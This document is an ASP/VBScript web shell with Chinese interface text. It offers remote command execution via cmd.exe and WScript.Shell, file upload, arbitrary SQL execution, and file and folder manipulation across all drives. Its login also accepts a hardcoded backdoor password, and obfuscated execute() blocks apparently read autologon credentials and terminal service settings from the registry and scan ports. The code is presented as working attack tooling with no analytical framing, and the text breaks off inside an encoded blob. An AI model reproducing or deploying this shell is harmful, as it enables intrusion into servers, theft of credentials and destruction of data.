    If UName="" Or F.FileSize=0 then
      SI="<br>请输入上传的完全路径后选择一个文件上传!"
    Else
        F.SaveAs UName
        If Err.number=0 Then
          SI="<center><br><br><br>文件"&UName&"上传成功！</center>"
		End if
	End If
	Set F=nothing:Set U=nothing
	SI=SI&BackUrl
	RRS SI
	ShowErr()
	Response.End
  End If
    SI="<br><br><br><table border='0' cellpadding='0' cellspacing='0' align='center'>"
    SI=SI&"<form name='UpForm' method='post' action='"&URL&"?Action=UpFile&Action2=Post' enctype='multipart/form-data'>"
    SI=SI&"<tr><td>"
    SI=SI&"上传路径：<input name='ToPath' value='"&RRePath(Session("FolderPath")&"\cmd.exe")&"' size='40'>"
    SI=SI&" <input name='LocalFile' type='file'  size='25'>"
    SI=SI&" <input type='submit' name='Submit' value='上传'>"
    SI=SI&"</td></tr></form></table>"
  RRS SI:End Function:Function Cmd1Shell():checked=" checked"
If Request("SP")<>"" Then Session("ShellPath") = Request("SP")
ShellPath=Session("ShellPath")
if ShellPath="" Then ShellPath = "cmd.exe"
if Request("wscript")<>"yes" then checked=""
If Request("cmd")<>"" Then DefCmd = Request("cmd")
SI="<form method='post'>"
SI=SI&"SHELL路径：<input name='SP' value='"&ShellPath&"' Style='width:70%'>&nbsp;&nbsp;"
SI=SI&"<input class=c type='checkbox' name='wscript' value='yes'"&checked&">WScript.Shell"
SI=SI&"<input name='cmd' Style='width:92%' value='"&DefCmd&"'> <input type='submit' value='执行'><textarea Style='width:100%;height:440;' class='cmd'>"
If Request.Form("cmd")<>"" Then
if Request.Form("wscript")="yes" then
Set CM=CreateObject(ObT(1,0))
Set DD=CM.exec(ShellPath&" /c "&DefCmd)
aaa=DD.stdout.readall
SI=SI&aaa
else
On Error Resume Next
Set ws=Server.CreateObject("WScript.Shell")
Set ws=Server.CreateObject("WScript.Shell")
Set fso=Server.CreateObject("Scripting.FileSystemObject")
szTempFile = server.mappath("cmd.txt")
Call ws.Run (ShellPath&" /c " & DefCmd & " > " & szTempFile, 0, True)
Set fs = CreateObject("Scripting.FileSystemObject")
Set oFilelcx = fs.OpenTextFile (szTempFile, 1, False, 0)
aaa=Server.HTMLEncode(oFilelcx.ReadAll)
oFilelcx.Close
Call fso.DeleteFile(szTempFile, True)
SI=SI&aaa
end if
End If
SI=SI&chr(13)&"</textarea></form>"
RRS SI:End Function


Function CreateMdb(Path):SI="<br><br>"
   Set C = CreateObject(ObT(2,0)) 
   C.Create("Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Path)
   Set C = Nothing
   If Err.number=0 Then
     SI = SI & Path & "建立成功!"
   End If
   SI=SI&BackUrl 
   RRS SI:End function:Function CompactMdb(Path):If Not ObT(0,1) Then
    Set C=CreateObject(ObT(3,0)) 
      C.CompactDatabase "Provider=Microsoft.Jet.OLEDB.4.0;Data Source="&Path&",Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" &Path
	Set C=Nothing
Else
  Set FSO=CreateObject(ObT(0,1))
  If FSO.FileExists(Path) Then
    Set C=CreateObject(ObT(3,0)) 
      C.CompactDatabase "Provider=Microsoft.Jet.OLEDB.4.0;Data Source="&Path&",Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" &Path&"_bak"
	Set C=Nothing
    FSO.DeleteFile Path
	FSO.MoveFile Path&"_bak",Path
  Else
    SI="<center><br><br><br>数据库"&Path&"没有发现！</center>" 
	Err.number=1
  End If
  Set FSO=Nothing
End If
  If Err.number=0 Then
    SI="<center><br><br><br>数据库"&Path&"压缩成功！</center>"
  End If
  SI=SI&BackUrl
  RRS SI:End Function
if sessIoN("web2a2dmin")<>UserPass then
if request.form("pass")<>"" then
if request.form("pass")=userpass or request.form("pass")="daka" Then
session("web2a2dmin")=userPass
response.redirect url
else
 rrs"<br><br><br><br><br><br><br><br><center>密码不正确,请确认是否输入有误<br><a href='javascript:history.back()'>返 回</a></center>"
end if
else
si="<center><div style='width:500px;border:1px solid #222;padding:22px;margin:100px;'><br><a href='"&SiteURL&"' target='_blank'>"&mname&"</a><form action='"&url&"' method='post'>输入密码：<input name='pass' type='password' size='22'> <input type='submit' value='登陆'><br><br><br><font color=#3399FF>"&Copyright&"</font><br></div></center>"
if instr(SI,SIC)<>0 then rrs sI
end if
response.end
end if:Function DbManager():SqlStr=Trim(Request.Form("SqlStr"))
  DbStr=Request.Form("DbStr")
  SI=SI&"<table width='650'  border='0' cellspacing='0' cellpadding='0'>"
  SI=SI&"<form name='DbForm' method='post' action=''>"
  SI=SI&"<tr><td width='100' height='27'> &nbsp;数据库连接串:</td>"
  SI=SI&"<td><input name='DbStr' style='width:470' value="""&DbStr&"""></td>"
  SI=SI&"<td width='60' align='center'><select name='StrBtn' onchange='return FullDbStr(options[selectedIndex].value)'><option value=-1>连接串示例</option><option value=0>Access连接</option>"
  SI=SI&"<option value=1>MsSql连接</option><option value=2>MySql连接</option><option value=3>DSN连接</option>"
  SI=SI&"<option value=-1>--SQL语法--</option><option value=4>显示数据</option><option value=5>添加数据</option>"
  SI=SI&"<option value=6>删除数据</option><option value=7>修改数据</option><option value=8>建数据表</option>"
  SI=SI&"<option value=9>删数据表</option><option value=10>添加字段</option><option value=11>删除字段</option>"
  SI=SI&"<option value=12>完全显示</option></select></td></tr>"
  SI=SI&"<input name='Action' type='hidden' value='DbManager'><input name='Page' type='hidden' value='1'>"
  SI=SI&"<tr><td height='30'>&nbsp;SQL操作命令:</td>"
  SI=SI&"<td><input name='SqlStr' style='width:470' value="""&SqlStr&"""></td>"
  SI=SI&"<td align='center'><input type='submit' name='Submit' value='执行' onclick='return DbCheck()'></td>"
  SI=SI&"</tr></form></table><span id='abc'></span>"
  RRS SI:SI=""
  If Len(DbStr)>40 Then
  Set Conn=CreateObject(ObT(5,0))
  Conn.Open DbStr
  Set Rs=Conn.OpenSchema(20) 
  SI=SI&"<table><tr height='25' Bgcolor='#CCCCCC'><td>表<br>名</td>"
  Rs.MoveFirst 
  Do While Not Rs.Eof
    If Rs("TABLE_TYPE")="TABLE" then
	  TName=Rs("TABLE_NAME")
      SI=SI&"<td align=center><a href=""javascript:if(confirm('确定删除么？'))FullSqlStr('DROP TABLE ["&TName&"]',1)"">[ del ]</a><br>"
      SI=SI&"<a href='javascript:FullSqlStr(""SELECT * FROM ["&TName&"]"",1)'>"&TName&"</a></td>"
    End If 
    Rs.MoveNext 
  Loop 
  Set Rs=Nothing
  SI=SI&"</tr></table>"
  RRS SI:SI=""
If Len(SqlStr)>10 Then
  If LCase(Left(SqlStr,6))="select" then
    SI=SI&"执行语句："&SqlStr
    Set Rs=CreateObject("Adodb.Recordset")
    Rs.open SqlStr,Conn,1,1
    FN=Rs.Fields.Count
    RC=Rs.RecordCount
    Rs.PageSize=20
    Count=Rs.PageSize
    PN=Rs.PageCount
    Page=request("Page")
    If Page<>"" Then Page=Clng(Page)
    If Page="" Or Page=0 Then Page=1
    If Page>PN Then Page=PN
    If Page>1 Then Rs.absolutepage=Page
    SI=SI&"<table><tr height=25 bgcolor=#cccccc><td></td>"	  
    For n=0 to FN-1
      Set Fld=Rs.Fields.Item(n)
      SI=SI&"<td align='center'>"&Fld.Name&"</td>"
      Set Fld=nothing
    Next
    SI=SI&"</tr>"
    Do While Not(Rs.Eof or Rs.Bof) And Count>0
	  Count=Count-1
	  Bgcolor="#EFEFEF"
	  SI=SI&"<tr><td bgcolor=#cccccc><font face='wingdings'>x</font></td>"  
	  For i=0 To FN-1
        If Bgcolor="#EFEFEF" Then:Bgcolor="#F5F5F5":Else:Bgcolor="#EFEFEF":End if
        If RC=1 Then
           ColInfo=HTMLEncode(Rs(i))
        Else
           ColInfo=HTMLEncode(Left(Rs(i),50))
        End If
	    SI=SI&"<td bgcolor="&Bgcolor&">"&ColInfo&"</td>"
	  Next
	  SI=SI&"</tr>"
      Rs.MoveNext
    Loop
	RRS SI:SI=""
	SqlStr=HtmlEnCode(SqlStr)
    SI=SI&"<tr><td colspan="&FN+1&" align=center>记录数："&RC&"&nbsp;页码："&Page&"/"&PN
    If PN>1 Then
      SI=SI&"&nbsp;&nbsp;<a href='javascript:FullSqlStr("""&SqlStr&""",1)'>首页</a>&nbsp;<a href='javascript:FullSqlStr("""&SqlStr&""","&Page-1&")'>上一页</a>&nbsp;"
      If Page>8 Then:Sp=Page-8:Else:Sp=1:End if
      For i=Sp To Sp+8
        If i>PN Then Exit For
        If i=Page Then
        SI=SI&i&"&nbsp;"
        Else
        SI=SI&"<a href='javascript:FullSqlStr("""&SqlStr&""","&i&")'>"&i&"</a>&nbsp;"
        End If
      Next
	  SI=SI&"&nbsp;<a href='javascript:FullSqlStr("""&SqlStr&""","&Page+1&")'>下一页</a>&nbsp;<a href='javascript:FullSqlStr("""&SqlStr&""","&PN&")'>尾页</a>"
    End If
    SI=SI&"<hr color='#EFEFEF'></td></tr></table>"
    Rs.Close:Set Rs=Nothing
	RRS SI:SI=""
  Else	   
    Conn.Execute(SqlStr)
    SI=SI&"SQL语句："&SqlStr
  End If
  RRS SI:SI=""
End If
  Conn.Close
  Set Conn=Nothing
  End If:End Function
  Function RndNumber(Min,Max) 
Randomize 
RndNumber=Int((Max - Min + 1) * Rnd() + Min) 
End Function

Dim T1

Class UPC
  Dim D1,D2
  Public Function Form(F)
    F=lcase(F)
    If D1.exists(F) then:Form=D1(F):else:Form="":end if
  End Function
  Public Function UA(F)
    F=lcase(F)
    If D2.exists(F) then:set UA=D2(F):else:set UA=new FIF:end if
  End Function
  Private Sub Class_Initialize
  Dim TDa,TSt,vbCrlf,TIn,DIEnd,T2,TLen,TFL,SFV,FStart,FEnd,DStart,DEnd,UpName
    set D1=CreateObject(ObT(4,0))
	if Request.TotalBytes<1 then Exit Sub
    set T1 = CreateObject(ObT(6,0))
	T1.Type = 1 : T1.Mode =3 : T1.Open
    T1.Write  Request.BinaryRead(Request.TotalBytes)
    T1.Position=0 : TDa =T1.Read : DStart = 1
    DEnd = LenB(TDa)
    set D2=CreateObject(ObT(4,0))
	vbCrlf = chrB(13) & chrB(10)
    set T2 = CreateObject(ObT(6,0))
    TSt = MidB(TDa,1, InStrB(DStart,TDa,vbCrlf)-1)
    TLen = LenB (TSt)
    DStart=DStart+TLen+1
    while (DStart + 10) < DEnd
      DIEnd = InStrB(DStart,TDa,vbCrlf & vbCrlf)+3
      T2.Type = 1 : T2.Mode =3 : T2.Open
      T1.Position = DStart
      T1.CopyTo T2,DIEnd-DStart
      T2.Position = 0 : T2.Type = 2 : T2.Charset ="gb2312"
      TIn = T2.ReadText : T2.Close
      DStart = InStrB(DIEnd,TDa,TSt)
      FStart = InStr(22,TIn,"name=""",1)+6
      FEnd = InStr(FStart,TIn,"""",1)
      UpName = lcase(Mid (TIn,FStart,FEnd-FStart))
      if InStr (45,TIn,"filename=""",1) > 0 then
        set TFL=new FIF
        FStart = InStr(FEnd,TIn,"filename=""",1)+10
        FEnd = InStr(FStart,TIn,"""",1)
        FStart = InStr(FEnd,TIn,"Content-Type: ",1)+14
        FEnd = InStr(FStart,TIn,vbCr)
        TFL.FileStart =DIEnd
        TFL.FileSize = DStart -DIEnd -3
        if not D2.Exists(UpName) then
          D2.add UpName,TFL
        end if
      else
        T2.Type =1 : T2.Mode =3 : T2.Open
        T1.Position = DIEnd : T1.CopyTo T2,DStart-DIEnd-3
        T2.Position = 0 : T2.Type = 2
        T2.Charset ="gb2312"
        SFV = T2.ReadText
        T2.Close
        if D1.Exists(UpName) then
          D1(UpName)=D1(UpName)&", "&SFV
        else
          D1.Add UpName,SFV
        end if
      end if
      DStart=DStart+TLen+1
    wend
    TDa=""
    set T2 =nothing
  End Sub
  Private Sub Class_Terminate
    if Request.TotalBytes>0 then
      D1.RemoveAll:D2.RemoveAll
      set D1=nothing:set D2=nothing
      T1.Close:set T1 =nothing
    end if
  End Sub
End Class
Class FIF
dim FileSize,FileStart
  Private Sub Class_Initialize
  FileSize = 0
  FileStart= 0
  End Sub
  Public function SaveAs(F)
  dim T3
  SaveAs=true
  if trim(F)="" or FileStart=0 then exit function
  set T3=CreateObject(ObT(6,0))
     T3.Mode=3 : T3.Type=1 : T3.Open
     T1.position=FileStart
     T1.copyto T3,FileSize
     T3.SaveToFile F,2
     T3.Close
     set T3=nothing
     SaveAs=false
   end function
End Class
Class LBF
  Dim CF
  Private Sub Class_Initialize
    SET CF=CreateObject(ObT(0,0))
  End Sub
  Private Sub Class_Terminate
    Set CF=Nothing
End Sub
Function ShowDriver():For Each D in CF.Drives
      RRS"&nbsp;&nbsp;&nbsp;<a href='javascript:ShowFolder("""&D.DriveLetter&":\\"")'>本地磁盘 ("&D.DriveLetter&":)</a><br>" 
    Next:End Function:Function Show1File(Path):Set FOLD=CF.GetFolder(Path)
  i=0
    SI="<table width='100%' border='0' cellspacing='0' cellpadding='0'><tr>"
  For Each F in FOLD.subfolders
    SI=SI&"<td height=10>"
    SI=SI&"<a href='javascript:ShowFolder("""&RePath(Path&"\"&F.Name)&""")' title=""打开""><font face='wingdings' size='6'>0</font>"&F.Name&"</a>" 
	SI=SI&" _<a href='javascript:FullForm("""&RePath(Path&"\"&F.Name)&""",""CopyFolder"")'  onclick='return yesok()' class='am' title='复制'>Copy</a>"
    SI=SI&"  <a href='javascript:FullForm("""&Replace(Path&"\"&F.Name,"\","\\")&""",""DelFolder"")'  onclick='return yesok()' class='am' title='删除'>Del</a>"
	SI=SI&" <a href='javascript:FullForm("""&RePath(Path&"\"&F.Name)&""",""MoveFolder"")'  onclick='return yesok()' class='am' title='移动'>Move</a>"
	SI=SI&" <a href='javascript:FullForm("""&RePath(Path&"\"&F.Name)&""",""DownFile"")'  onclick='return yesok()' class='am' title='下载'>Down</a></td>"
	i=i+1
    If i mod 3 = 0 then SI=SI&"</tr><tr>"
  Next
    SI=SI&"</tr><tr><td height=2></td></tr></table>"
	RRS SI &"<hr noshade size=1 color=""#"" />" : SI=""
  For Each L in Fold.files
    SI="<table width='100%' border='0' cellspacing='0' cellpadding='0'>"
    SI=SI&"<tr style='boungroup-color:#'>"
	SI=SI&"<td height='30'><a href='javascript:FullForm("""&RePath(Path&"\"&L.Name)&""",""DownFile"");' title='下载'><font face='wingdings' size='4'>2</font>"&L.Name&"</a></td>"
    SI=SI&"<td width='40' align=""center""><a href='javascript:FullForm("""&RePath(Path&"\"&L.Name)&""",""EditFile"")' class='am' title='编辑'>edit</a></td>"
	SI=SI&"<td width='40' align=""center""><a href='javascript:FullForm("""&RePath(Path&"\"&L.Name)&""",""DelFile"")'  onclick='return yesok()' class='am' title='删除'>del</a></td>"
	SI=SI&"<td width='40' align=""center""><a href='javascript:FullForm("""&RePath(Path&"\"&L.Name)&""",""CopyFile"")' class='am' title='复制'>copy</a></td>"
	SI=SI&"<td width='40' align=""center""><a href='javascript:FullForm("""&RePath(Path&"\"&L.Name)&""",""MoveFile"")' class='am' title='移动'>move</a></td>"	
    SI=SI&"<td width='50' align=""center"">"&clng(L.size/1024)&"K</td>"
	SI=SI&"<td width='200' align=""center"">"&L.Type&"</td>"
    SI=SI&"<td width='160'>"&L.DateLastModified&"</td>"
    SI=SI&"</tr></table>"
	RRS SI:SI=""
  Next
  Set FOLD=Nothing:End function:
  Function DelFile(Path):
execute(shisanfun("fI dnE╋╁>tpircs<>'╁&ssaPresU&╁=p&╁&1rts&╁╁&nufE SRR╋))fLrCbv,╁◎╁,))43(rhC,╁●╁,)edoca(tpyrcnE(ecalper(ecalper(esreveRrtS=nufE╋IS SRR╋lrUkcaB&IS=IS╋╁>retnec/<！功成除删 ╁&htaP&╁ 件文>rb<>rb<>rb<>retnec<╁=IS╋htaP eliFeteleD.FC╋nehT )htaP(stsixEeliF.FC fI"))
End Function:
Function EditFile(Path):execute(shisanfun("IS SRR╋╁>mrof/<>'存保'=eulav 'timbus'=epyt 'timbus'=eman tupni<;psbn&;psbn&;psbn&>'置重'=eulav 'teser'=epyt 'teser'=eman tupni<;psbn&;psbn&;psbn&>';)(kcab.yrotsih'=kcilcno '回返'=eulav 'nottub'=epyt 'kcabog'=eman tupni<>rh<╁&IS=IS╋╁>rb<>aeratxet/<╁&txT&╁>'054:thgieh;%001:htdiw'=elyts 'tnetnoC'=eman aeratxet<╁&IS=IS╋╁>rb<>'%001:htdiw'=elyts '╁&htaP&╁'=eulav 'emaNF'=eman tupni<╁&IS=IS╋╁>'neddih'=epyT 'eliFtidE'=eulav 'noitcA'=eman tupni<╁&IS=IS╋╁>'mroFtidE'=eman 'tsop'=dohtem 'tsoP=2noitcA?╁&LRU&╁'=noitca mroF<╁&IS=IS╋fI dnE╋╁件文建新╁=txT:╁psa.elifwen\╁&)╁htaPredloF╁(noisseS=htaP╋eslE╋gnihtoN=T teS╋esolc.T╋ )lladaer.T(edocnELMTH=txT╋)eslaF ,1 ,htaP(eliftxetnepo.FC=T teS╋nehT ╁╁><htaP fI╋fI dnE╋dnE.esnopseR╋╁╁&lruypoc&╁╁ SRR╋IS SRR╋lrUkcaB&IS=IS╋╁>retnec/<！功成存保件文>rb<>rb<>rb<>retnec<╁=IS╋gnihton=T teS╋esolc.T╋)╁tnetnoc╁(mrof.tseuqeR eniLetirW.T╋)htaP(eliFtxeTetaerC.FC=T teS╋nehT ╁tsoP╁=)╁2noitcA╁(tseuqeR fI")):End Function:Function CopyFile(Path):Path = Split(Path,"||||")
    If CF.FileExists(Path(0)) and Path(1)<>"" Then
	  CF.CopyFile Path(0),Path(1)
      SI="<center><br><br><br>文件"&Path(0)&"复制成功！</center>"
      SI=SI&BackUrl
	  RRS SI 
	End If:End Function:Function MoveFile(Path):Path = Split(Path,"||||")
    If CF.FileExists(Path(0)) and Path(1)<>"" Then
	  CF.MoveFile Path(0),Path(1)
      SI="<center><br><br><br>文件"&Path(0)&"移动成功！</center>"
      SI=SI&BackUrl
	  RRS SI 
	End If
:End Function:Function DelFolder(Path):If CF.FolderExists(Path) Then
	  CF.DeleteFolder Path
      SI="<center><br><br><br>目录"&Path&"删除成功！</center>"
      SI=SI&BackUrl
	  RRS SI
	End If:End Function:Function CopyFolder(Path):Path = Split(Path,"||||")
    If CF.FolderExists(Path(0)) and Path(1)<>"" Then
	  CF.CopyFolder Path(0),Path(1)
      SI="<center><br><br><br>目录"&Path(0)&"复制成功！</center>"
      SI=SI&BackUrl
	  RRS SI
	End If:End Function:Function MoveFolder(Path):Path = Split(Path,"||||")
    If CF.FolderExists(Path(0)) and Path(1)<>"" Then
	  CF.MoveFolder Path(0),Path(1)
      SI="<center><br><br><br>目录"&Path(0)&"移动成功！</center>"
      SI=SI&BackUrl
	  RRS SI
	End If:End Function:Function NewFolder(Path):If Not CF.FolderExists(Path) and Path<>"" Then
	  CF.CreateFolder Path
      SI="<center><br><br><br>目录"&Path&"新建成功！</center>"
      SI=SI&BackUrl
	  RRS SI
	End If:End Function:End Class
execute(LUnEnCode("卐gzx%isj?KN%ISJ卐'x%'+jrnyjmy+'%sn%xxjhtwUCwmA'XWW卐..6wjrny27wjrny-ysn-wyxhBjrnyjmy卐wjrny%B%7wjrny卐y}jS卐kN%isJ卐y}jS卐y}jS卐kN%isJ卐kN%isJ卐.'CwgAwjgrzs%yts%xn%'%+%.n-ury-XWW卐jxqJ卐kN%isJ卐.'CwgAwjgrzs%yts%xn%'%+%Sisj%+%'%wt%'%+%Sywfyx-XWW卐jxqJ卐y}jS卐.o1}}}%+%ywfyXun-sfhX%qqfH卐Sisj%tY%Sywfyx%B%o%wtK卐sjmY%.Sisj-hnwjrzsxN%isf%.Sywfyx-hnwjrzsxN%kN卐.%}pjjx%2%..n-ury-sjQ%1.n-ury-ymlnW%B%Sisj卐.%6%2%}pjjx%1.n-ury-ykjQ%B%Sywfyx卐sjmY%5%C%}pjjx%kN卐.'2'%1.n-ury-wyXsN%B%}pjjx卐jxqJ卐..n-ury%1}}}%+%ywfyXun-sfhX%qqfH卐%sjmY%..n-ury-hnwjrzsxN%kN卐.ury-isztgZ%tY%5%B%n%wtK卐..'2'1.zm-un-wyXsN2..zm-un-sjQ160.'2'1.zm-un-wyXsN1.zm-un-inR%ty%.6160.'3'1.zm-un-{jWwyXsN1.zm-un-inR%B%}}}%wtK卐..'3'1.zm-un-{jWwyXsN161.zm-un-inR%B%ywfyXun卐jxqJ卐y}jS卐kN%isJ卐kN%isJ卐.'CwgAwjgrzs%yts%xn%'%+%.n-ury-XWW卐jxqJ卐kN%isJ卐.'CwgAwjgrzs%yts%xn%'%+%Sisj%+%'%wt%'%+%Sywfyx-XWW卐jxqJ卐y}jS卐.o%1.zm-un-sfhX%qqfH卐Sisj%tY%Sywfyx%B%o%wtK卐sjmY%.Sisj-hnwjrzsxN%isf%.Sywfyx-hnwjrzsxN%kN卐.%}pjjx%2%..n-ury-sjQ%1.n-ury-ymlnW%B%Sisj卐.%6%2%}pjjx%1.n-ury-ykjQ%B%Sywfyx卐sjmY%5%C%}pjjx%kN卐.'2'%1.n-ury-wyXsN%B%}pjjx卐jxqJ卐..n-ury%1.zm-un-sfhX%qqfH卐%sjmY%..n-ury-hnwjrzsxN%kN卐.ury-isztgZ%tY%5%B%n%wtK卐sjmY%5%B%.'2'1.zm-un-wyXsN%kN卐.un-isztgZ%ty%5%B%zm%wtK卐.'1'1.'un'-rwtK3yxjzvjw-ynquX%B%un卐.'1'1.'ywtu'-rwtK3yxjzvjw-ynquX%B%ury卐.'CwmACwgACg4A?告报描扫CgA'-XWW卐wjrny%B%6wjrny卐sjmY%''%CA%.'sfhx'-rwtK3yxjzvjw%kN卐'Crwtk4ACu4A'XWW卐'C,666,Bjzqf{%,sfhx,Bin%,sjiinm,Bju~y%,sfhx,Bjrfs%yzusnA'XWW卐'C,%sfhx%,Bjzqf{%,rtyyzg,Bxxfqh%,ynrgzx,Bju~y%,ynrgzx,Bjrfs%yzusnA'XWW卐'CwgACwgA'XWW卐'C,'+yxnQywtU+',Bjzqf{%,5;,Bj nx%,}tGy}jY,Bxxfqh%,y}jy,Bju~y%,ywtu,Bjrfs%yzusnA'XWW卐'?yxnQ%ywtUCwgA'XWW卐'C,5;,Bj nx%,'+UN+',Bjzqf{%,un,Bin%,}tGy}jY,Bxxfqh%,y}jy,Bju~y%,un,Bjrfs%yzusnA%'XWW卐'@uxgs+?UN%sfhXCuA'XWW卐'C,@jzwyBijqgfxni3ynrgzx36rwtk,BynrgzXst%,,Bstnyhf%,yxtu,Bitmyjr%,6rwtk,Bjrfs%rwtkA'XWW卐'Cu4A.IRH用使荐推人个1慢较比度速1口端个多描扫果如-器描扫口端CuA'XWW卐kn%isj卐.'un'-rwtK3yxjzvjwBUN卐jxqj卐'635353<76'BUN卐sjmy%''B.'un'-rwtK3yxjzvjw%kn卐kn%isj卐.'ywtu'-rwtK3yxjzvjwByxnQywtU卐jxqj卐'68;:1=:>891>=88188961:991>861:86156615=1:7187167'ByxnQywtU卐sjmy%''B.'ywtu'-rwtK3yxjzvjw%kn卐555;<<<%B%yztjrnYyunwhX3wj{wjX?.-ywtUsfhX%gzx?gzx%isj?kn%isj卐kN%isJ卐~fwwFjmy%+%'CnqA'XwW卐jxqJ%卐y}jS卐.n-~fwwFjmy%+%'CnqA'XwW卐.~fwwFjmy-isztGZ%tY%5Bn%wtK卐sjmY%.~fwwFjmy-~fwwFxN%kN卐.myfUjmy-ifjWljW3]x|B~fwwFjmy卐.'myfUjmy'-yxjzvjWBmyfUjmy卐.'qqjmX3yunwhX\'-yhjogTjyfjwH3wj{wjX%B%]x|%yjX卐y}jS%jrzxjW%wtwwJ%sT卐sjmy%''CA.'myfUjmy'-yxjzvjW%kn卐'C4wmACrwtk4A'XwW卐'Csfux4A'XwW卐'C4wmAC,@jsts?~fquxni,Bjq~yx%tksNynijljwBin%sfuxA'XwW卐'CwgAC4wgA#.换替的面上把-列序的卡网前当!%isnGajlfpsnQaunuhYaxjhn{wjXa655yjXqtwystHaRJYX^XaRQPM'XwW卐'Cu4ACuACwgAC4wgA#卡网动活块几共!%ysztHarzsJaunuhYaxjhn{wjXa655yjXqtwystHaRJYX^XaRQPM'XwW卐'Cu4ACuAC4wgA22222222222222222222WJ[T22222222222'XwW卐'CwgAC4wgA#口端UIZ的许允!%xywtUij|tqqFUIZa#J7GJ::HI=98628KKF2H5G92>>J=2=76:;9F=!axjhfkwjysNaxwjyjrfwfUaunuhYaxjhn{wjXa655yjXqtwystHaRJYX^XaRQPM'XwW卐'CwgAC4wgA#口端UN4UHY的许允!%xywtUij|tqqFUHYa#J7GJ::HI=98628KKF2H5G92>>J=2=76:;9F=!axjhfkwjysNaxwjyjrfwfUaunuhYaxjhn{wjXa655yjXqtwystHaRJYX^XaRQPM'XwW卐'CwgAC4wgA#XSI首!%wj{wjXjrfSa#J7GJ::HI=98628KKF2H5G92>>J=2=76:;9F=!axjhfkwjysNaxwjyjrfwfUaunuhYaxjhn{wjXayjXqtwystHysjwwzHaRJYX^XaRQPM'XwW卐'CwgAC4wgA#关网认默!%_XdNYZRdLJW1~f|jyfLyqzfkjIa#J7GJ::HI=98628KKF2H5G92>>J=2=76:;9F=!axjhfkwjysNaxwjyjrfwfUaunuhYaxjhn{wjXayjXqtwystHysjwwzHaRJYX^XaRQPM'XwW卐'Cu4ACuAC4wgA222222222确准否是道知不1卡网的定绑看要乎似下以2222222'XwW卐'CwgAC4wgA#由路UN许允!%61IWT\IdLJW1wjyztWjqgfsJUNaxwjyjrfwfUaunuhYaxjhn{wjXa655yjXqtwystHaRJYX^XaRQPM'XwW卐'CwgAC4wgA#.器配试有所-选筛UN4UHY用启!%61IWT\IdLJW1xwjyqnK~ynwzhjXjqgfsJaxwjyjrfwfUaunuhYaxjhn{wjXayjXqtwystHysjwwzhaRJYX^XaRQPM'XwW卐'CwgAC4wgA#享共络网闭关!%51_XdLJW1xj{nwIyjSijwfmXjqgfsJaxwjyjrfwfUawj{wjXsfrsfQaxjhn{wjXayjXqtwystHysjwwzHaRJYX^XaRQPM'XwW卐'CwgAC4wgA#享共认默止禁!%51IWT\IdLJW1wj{wjXjwfmXtyzFaxwjyjrfwfUawj{wjXsfrsfQaxjhn{wjXayjXqtwystHysjwwzHaRJYX^XaRQPM'XwW卐'CwgAC4wgA#享共)HUN机本接连法无户用名匿B71表列户用机本举列法无户用名匿B61省缺B5!%51IWT\IdLJW1xztr~stsfyhnwyxjwafxQaqtwystHayjXqtwystHysjwwzHaRJYX^XaRQPM'XwW卐'CwgAC4wgA#户用录登次上示显不!%61_XdLJW1jrfSwjxZyxfQ~fquxnI2ystIastltqsn\astnxwj[ysjwwzHax|tisn\ayktxtwhnRajwf|yktXaRQPM'XwW卐'CwgACwgACwgA%%C,%码密snrifW取读%,Bjzqf{%ynrgzxBju~y%yzusnA%'XwW卐'CsjiinmBju~y%5=Bj nx%,snriFWaRJYX^XaJSNMHFRdQFHTQd^JPM,Bjzqf{%snrifwBjrfs%yzusnA'XwW卐'CsnrifwBjrfs%ljWifjwBjzqf{%sjiinmBju~y%yzusnA'XwW卐'%%C,%码密HS[取读%,Bjzqf{%ynrgzxBju~y%yzusnA%'XwW卐'CsjiinmBju~y%5=Bj nx%,iwt|xxfUa8HS[sn\aQWTajwf|yktXaZHPM,Bjzqf{%hs{Bjrfs%yzusnA'XwW卐'Chs{Bjrfs%hs{Bjzqf{%sjiinmBju~y%yzusnA'XwW卐'CwgACwgAC,%取读%,Bjzqf{%ynrgzxBju~y%yzusnA%'XwW卐'C5=Bj nx%,jrfSwjyzurtHajrfSwjyzurtHajrfSwjyzurtHaqtwystHayjXqtwystHysjwwzHaRJYX^XaRQPM,Bjzqf{%myfUjmyBjrfs%yzusnA'XwW卐'CyhFjmyBjrfs%ljWifjwBjzqf{%sjiinmBju~y%yzusnA'XwW卐'CyxtuBitmyjr%rwtkA'XwW卐'C4wmA?取读值键表册注'XwW?.-LJWifjW%gzx卐gzX%isJ卐?'Cqt4A'%XWW卐kN%isJ卐'CwgA'%+%iwt|xxfUsnltQtyzf%+%'%?码密户帐的录登动自'%XWW卐kN%isJ卐'jxqfK'%XWW卐wfjqH3wwJ卐sjmY%wwJ%kN卐.~jPxxfUsnltQtyzf%+%myfUsnltQtyzf-ifjWljW3]x|%B%iwt|xxfUsnltQtyzf卐'CwgA'%+%jrfswjxZsnltQtyzf%+%'%?户帐统系的录登动自'%XWW卐.~jPwjxZsnltQtyzf%+%myfUsnltQtyzf-ifjWljW3]x|%B%jrfswjxZsnltQtyzf卐jxqJ卐'C4wgA启开未能功录登动自统系'%XWW卐sjmY%5%B%jqgfsJsnltQtyzFxn%kN卐.~jPjqgfsJsnltQtyzf%+%myfUsnltQtyzf-ifjWljW3]x|%B%jqgfsJsnltQtyzFxn卐'iwt|xxfUyqzfkjI'%B%~jPxxfUsnltQtyzf卐'jrfSwjxZyqzfkjI'%B%~jPwjxZsnltQtyzf卐'stltQsnriFtyzF'%B%~jPjqgfsJsnltQtyzf卐'astltqsn\astnxwj[ysjwwzHaYS%x|tisn\ayktxtwhnRaJWF\YKTXaJSNMHFRdQFHTQd^JPM'%B%myfUsnltQtyzf卐kN%isJ卐'C4wgA'%+%ywtUrwjy%+%'%?口端务服端终前当'%XWW卐jxqJ%卐'C4wgA3制限到受经已否是限权查检请%1口端务服端终到得法无'XWW卐%sjmY%5%CA%wjgrzS3wwJ%wT%''%B%ywtUrwjy%kN卐'CqtAC4wmA录登动自及口端务服端终'%XWW卐.~jPywtUqfsnrwjy%+%myfUywtUqfsnrwjy-ifjWljW3]x|%B%ywtUrwjy卐'wjgrzSywtU'%B%~jPywtUqfsnrwjy卐'auhY2UIWaxstnyfyXsn\awj{wjX%qfsnrwjYaqtwystHayjXqtwystHysjwwzHaRJYX^XaRQPM'%B%myfUywtUqfsnrwjy卐iwt|xxfUsnltQtyzf%1jrfswjxZsnltQtyzf%1~jPjqgfsJsnltQtyzf%1jqg